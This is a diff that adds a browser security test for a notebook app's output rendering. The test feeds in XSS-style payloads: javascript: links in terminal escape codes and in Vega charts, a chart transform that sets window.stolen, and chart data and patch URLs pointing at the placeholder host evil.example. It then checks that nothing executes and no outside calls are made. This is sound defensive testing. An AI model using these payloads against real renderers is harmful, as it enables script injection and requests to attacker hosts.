@@ -68,3 +68,39 @@ test('S1: hostile output stays in its frame and calls nobody', async ({ browser,
   for (const frame of await cellAt(page, 1).locator('iframe').all()) expect((await frame.boundingBox())?.height ?? 0).toBeLessThanOrEqual(2000)
   await context.close()
 })
+
+test('S1: hostile text, errors, formulas, charts and progress stay what they are', async ({ browser, product, ownerState, owner }) => {
+  const source = [
+    'import json, sys', 'from IPython.display import Latex, Markdown, JSON', `payloads = json.loads(${JSON.stringify(JSON.stringify(PAYLOADS))})`,
+    'for p in payloads:', '    print(p); print("\x1b[31m" + p + "\x1b]8;;javascript:top.stolen=1\x07link\x1b]8;;\x07", file=sys.stderr)',
+    '    display(Markdown(p), Latex("$" + p + "$"), JSON({p: p}))', '    display({"application/vnd.jupyter.widget-view+json": {}, "text/plain": p}, raw=True)',
+    'bad = payloads[1]',
+    'mark = {"type": "point", "href": "javascript:top.stolen=1", "tooltip": True}',
+    'display({"application/vnd.vegalite.v5+json": {"title": bad, "mark": mark, "usermeta": {"embedOptions": {"ast": False, "actions": True, "patch": "https://evil.example/p.json"}}, "data": {"values": [{"a": bad, "b": 1}]}, "transform": [{"calculate": "window.stolen = 1", "as": "c"}], "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}, "href": {"value": "javascript:top.stolen=1"}, "url": {"value": "https://evil.example/i.png"}}}}, raw=True)',
+    'display({"application/vnd.vega.v5+json": {"width": 9, "height": 9, "data": [{"name": "t", "url": "https://evil.example/d.json"}], "marks": [{"type": "image", "encode": {"enter": {"url": {"value": "https://evil.example/i.png"}}}}]}}, raw=True)',
+    'sys.stderr.write(bad + ":  45%|####      | 45/100 [" + bad + "]")',
+    'problem = type("E" + bad, (Exception,), {})(bad)', 'problem.add_note(bad)', 'raise problem from ValueError(bad)',
+  ].join('\n')
+  const notebook = await makeNotebook(owner, 'Hostile forms', [{ kind: 'python', source }])
+  const context = await browser.newContext({ storageState: ownerState, baseURL: product.url })
+  const calls = await watch(context)
+  const page = await context.newPage()
+  await openNotebook(page, notebook)
+  await cellAt(page, 1).getByRole('button', { name: 'Run cell' }).click()
+  await expect(cellAt(page, 1)).toContainText('Caused by ValueError', { timeout: 30_000 })
+  await page.waitForTimeout(2000)
+  const found = await page.evaluate(() => {
+    const output = document.querySelector('[aria-label^="Output of"]')
+    const all = [...(output?.querySelectorAll('*') ?? [])].filter((element) => element.closest('.katex') === null)
+    return {
+      stolen: 'stolen' in window,
+      handlers: all.filter((element) => element.getAttributeNames().some((name) => name.startsWith('on'))).map((element) => element.outerHTML.slice(0, 200)),
+      links: all.filter((element) => /^\s*javascript:/i.test(element.getAttribute('href') ?? element.getAttribute('xlink:href') ?? '')).map((element) => element.outerHTML.slice(0, 200)),
+      foreign: all.filter((element) => /^(script|object|embed|form|base|meta|video)$/i.test(element.tagName)).map((element) => element.outerHTML.slice(0, 200)),
+    }
+  })
+  expect(found).toEqual({ stolen: false, handlers: [], links: [], foreign: [] })
+  expect(calls).toEqual([])
+  expect(page.url()).toContain(notebook.path)
+  await context.close()
+})
